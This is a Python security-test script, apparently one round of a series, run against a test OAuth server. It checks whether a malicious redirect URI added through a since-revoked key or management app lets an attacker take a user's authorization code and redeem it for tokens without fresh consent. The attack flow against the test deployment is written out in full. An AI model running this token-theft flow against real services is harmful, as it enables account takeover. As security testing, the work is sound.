"""Round 12: a redirect URI added to a PUBLIC app (PKCE, no secret) through a key or a
management app's token stays after that key/app ends. A user who consented before:
does /oauth/authorize hand a code to the added URI without asking again?
Usage: public_redirect.py key|machine"""
import sys, time
from lib import *
A = os.environ.get("A", BASE); B = os.environ.get("B", A)
how = sys.argv[1]
owner, _ = login("owner@acme.test", base=A); adm, _ = login("admin@acme.test", base=A)
RU, EVIL = "https://spa.acme.test/cb", "http://127.0.0.1:9999/evil"
s, b = call("POST", "/v1/apps", owner, {"name": "spa", "type": "public", "redirect_uris": [RU],
            "grant_types": ["authorization_code", "refresh_token"], "scopes": ["openid", "offline_access", "read"]}, base=A); assert s == 201, b
P = b["data"]["client_id"]
u = page_login("viewer@acme.test", base=A)
code, ver = authorize(u, P, RU, base=A); print("viewer consents once at the real URI: code", bool(code))
if how == "key":
    s, b = key(owner, "K", ("read", "write"), base=A); kid, cred = b["data"]["id"], b["data"]["key"]
    end = lambda: call("DELETE", f"/v1/api-keys/{kid}", owner, base=A)[0]
else:
    s, b = call("POST", "/v1/apps", adm, {"name": "bot", "type": "confidential", "grant_types": ["client_credentials"], "scopes": ["read", "write"], "management": True}, base=A)
    M = (b["data"]["client_id"], b["data"]["client_secret"]); cred = cc(*M, "read write", base=A)[1]["access_token"]
    end = lambda: call("DELETE", f"/v1/apps/{M[0]}", adm, base=A)[0]
print(how, "adds the evil redirect URI:", call("PATCH", f"/v1/apps/{P}", cred, {"redirect_uris": [RU, EVIL]}, base=A)[0])
print(how, "ends:", end()); time.sleep(1.2)
print("redirect URIs now:", call("GET", f"/v1/apps/{P}", owner, base=B)[1]["data"]["redirect_uris"])
import base64, hashlib, secrets, urllib.parse
verifier = secrets.token_urlsafe(48)
ch = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
q = {"response_type": "code", "client_id": P, "redirect_uri": EVIL, "scope": "openid offline_access read", "state": "s",
     "code_challenge": ch, "code_challenge_method": "S256", "nonce": "n"}
r = u.get(B + "/oauth/authorize", params=q, allow_redirects=False, timeout=10)
loc = r.headers.get("location", "")
print("viewer opens an authorize link to the evil URI:", r.status_code, "consent page shown" if ("decision" in r.text) else "", loc[:60])
c = urllib.parse.parse_qs(urllib.parse.urlparse(loc).query).get("code", [None])[0]
if c:
    r = requests.post(B + "/oauth/token", data={"grant_type": "authorization_code", "code": c, "redirect_uri": EVIL, "code_verifier": verifier, "client_id": P}, timeout=10)
    print("attacker redeems at the token endpoint:", r.status_code, list(r.json().keys())[:4])
# If the viewer approves that consent page (it names the real app), the code goes to the evil URI:
code, ver = authorize(u, P, EVIL, scope="openid offline_access read", base=B)
r = requests.post(B + "/oauth/token", data={"grant_type": "authorization_code", "code": code, "redirect_uri": EVIL, "code_verifier": ver, "client_id": P}, timeout=10)
print("after approval: code sent to the evil URI; attacker redeems it:", r.status_code, sorted(r.json().keys())[:5])
